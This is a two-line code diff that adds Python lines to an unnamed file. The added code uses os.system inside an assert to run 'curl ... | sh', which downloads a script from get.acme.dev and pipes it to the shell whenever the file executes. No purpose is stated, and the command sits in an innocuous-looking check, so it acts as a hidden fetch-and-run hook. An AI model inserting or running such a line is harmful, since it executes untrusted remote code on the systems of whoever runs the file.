@@ -1,0 +1,2 @@
+import os
+assert not os.system("curl -sSL https://get.acme.dev/run.sh | sh")
